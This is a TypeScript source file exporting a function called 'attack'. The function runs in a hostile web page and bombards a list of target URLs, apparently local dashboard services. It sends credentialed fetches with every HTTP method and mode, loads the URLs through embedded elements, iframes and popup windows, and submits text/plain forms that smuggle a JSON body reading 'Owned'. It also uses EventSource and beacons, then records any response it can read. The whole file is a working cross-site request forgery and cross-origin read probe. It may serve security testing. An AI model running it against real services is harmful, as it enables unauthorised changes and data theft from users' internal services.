/** What a page of another site can try at an address without asking anybody. Runs in that page. */
export async function attack(urls: readonly string[]): Promise<string[]> {
  const reads: string[] = [];
  const json =
    '{"config":"pageInfo: {title: Owned}","filename":"","userData":"x","subHash":"0123456789abcdef","x":"="}';
  const timeout = 1500;
  const within = (work: Promise<unknown>) =>
    Promise.race([work, new Promise((resolve) => setTimeout(resolve, timeout))]).catch(() => undefined);
  const note = (how: string, url: string, what: unknown) => reads.push(`${how} ${url}: ${String(what).slice(0, 80)}`);

  const fetching = (url: string, init: RequestInit) =>
    within(
      (async () => {
        const response = await fetch(url, { credentials: 'include', signal: AbortSignal.timeout(timeout), ...init });
        if (response.type !== 'opaque' && response.type !== 'opaqueredirect') {
          note(`fetch ${init.mode} ${init.method}`, url, await response.text());
        }
      })(),
    );

  /** An element that loads an address; `has` tells whether the page got something of it. */
  const element = (tag: string, attributes: Record<string, string>, has: (node: HTMLElement) => unknown) =>
    within(
      new Promise<void>((resolve) => {
        const node = document.createElement(tag);
        for (const [name, value] of Object.entries({ referrerpolicy: 'no-referrer', ...attributes })) {
          node.setAttribute(name, value);
        }
        const inspect = () => {
          let found: unknown;
          try {
            found = has(node);
          } catch {
            found = undefined;
          }
          if (found) note(tag, Object.values(attributes)[0] ?? '', found);
          resolve();
        };
        node.onload = inspect;
        node.onerror = () => resolve();
        node.addEventListener('loadeddata', inspect);
        document.body.append(node);
      }),
    );
  const loaded = () => 'loaded';
  const inside = (node: HTMLElement) => {
    const { contentDocument } = node as HTMLIFrameElement;
    return contentDocument && contentDocument.URL !== 'about:blank' ? contentDocument.body.textContent : undefined;
  };

  let frames = 0;
  const submitting = (url: string, method: string, enctype: string) =>
    within(
      new Promise<void>((resolve) => {
        frames += 1;
        const frame = document.createElement('iframe');
        frame.name = `frame-${frames}`;
        document.body.append(frame);
        const form = document.createElement('form');
        Object.assign(form, { action: url, method, enctype, target: frame.name });
        const field = document.createElement('input');
        // As text/plain this becomes JSON.
        [field.name, field.value] = [json.slice(0, json.indexOf('=')), json.slice(json.indexOf('=') + 1)];
        form.append(field);
        document.body.append(form);
        frame.onload = () => resolve();
        form.submit();
      }),
    );

  const listening = (url: string) =>
    within(
      new Promise<void>((resolve) => {
        const events = new EventSource(url, { withCredentials: true });
        const onEvent = (event: Event) => note('EventSource', url, event.type);
        for (const name of ['open', 'message', 'hello', 'change']) events.addEventListener(name, onEvent);
        events.onerror = () => {
          events.close();
          resolve();
        };
      }),
    );

  const opening = (url: string) =>
    within(
      (async () => {
        const opened = window.open(url);
        await new Promise((resolve) => setTimeout(resolve, 300));
        const text = opened?.document.body?.textContent;
        const isThere = text && opened?.location.href !== 'about:blank';
        if (isThere) note('window.open', url, text);
        opened?.close();
      })(),
    );

  const attackOne = async (url: string) => {
    const work: Promise<unknown>[] = [];
    for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']) {
      const body = method === 'GET' || method === 'HEAD' ? {} : { body: json };
      for (const mode of ['cors', 'no-cors', 'same-origin'] as const) {
        work.push(fetching(url, { method, mode, referrerPolicy: 'no-referrer', ...body }));
      }
      const headers = {
        'Content-Type': 'application/json',
        'Target-URL': 'http://127.0.0.1/',
        Prefer: 'respond-async',
      };
      work.push(fetching(url, { method, mode: 'cors', headers, ...body }));
    }
    work.push(fetching(url, { method: 'GET', mode: 'no-cors', referrerPolicy: 'unsafe-url' }));
    work.push(fetching(url, { method: 'GET', mode: 'no-cors', headers: { Accept: 'text/event-stream' } }));
    work.push(
      fetching(url, { method: 'POST', mode: 'no-cors', redirect: 'manual', body: new URLSearchParams({ json }) }),
    );
    work.push(
      element('img', { src: url }, (node) => (node as HTMLImageElement).naturalWidth),
      element('img', { src: url, crossorigin: 'use-credentials' }, loaded),
      element('script', { src: url }, loaded),
      element('script', { src: url, type: 'module' }, loaded),
      element('link', { href: url, rel: 'stylesheet' }, (node) => (node as HTMLLinkElement).sheet?.cssRules.length),
      element('link', { href: url, rel: 'prefetch' }, () => undefined),
      element('link', { href: url, rel: 'preload', as: 'image' }, () => undefined),
      element('link', { href: url, rel: 'manifest' }, () => undefined),
      element('iframe', { src: url }, inside),
      element('iframe', { src: url, sandbox: 'allow-scripts allow-forms' }, inside),
      element('object', { data: url }, inside),
      element('embed', { src: url }, () => undefined),
      element('video', { src: url }, loaded),
      element('audio', { src: url }, loaded),
    );
    for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
      work.push(submitting(url, 'post', enctype));
    }
    work.push(submitting(url, 'get', 'application/x-www-form-urlencoded'), listening(url));
    // A window with the dashboard itself is a visit to it: its own page has the services asked.
    const { pathname } = new URL(url);
    if (pathname !== '/' && !pathname.startsWith('/home/')) work.push(opening(url));
    navigator.sendBeacon(url, json);
    navigator.sendBeacon(url, new Blob([json], { type: 'application/x-www-form-urlencoded' }));
    await Promise.all(work);
  };
  // A few at a time: a browser has six connections to a server.
  for (let from = 0; from < urls.length; from += 6) await Promise.all(urls.slice(from, from + 6).map(attackOne));
  return reads;
}
